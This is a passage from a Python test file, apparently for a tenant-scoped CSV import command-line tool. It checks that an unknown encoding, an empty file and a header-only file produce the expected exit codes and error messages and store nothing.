    p = tenant.cli_file(case_path("BR-01.csv"), "--encoding", "klingon-8")
    r = Run(p)
    assert r.rc == 2 and "klingon-8" in r.err and "encoding" in r.err, r
    nothing_stored(tenant, before_imports=before)


def test_empty_file_and_header_only(tenant, tmp_path):
    r = Run(tenant.cli_file(write(tmp_path, "empty.csv", b"")))
    assert r.rc == 1 and "empty" in r.err, r
    r = ran(tenant.cli_file(write(tmp_path, "header.csv", b"first_name,email\r\n")), rc=0)
    counts(r, read=0)
    nothing_stored(tenant)
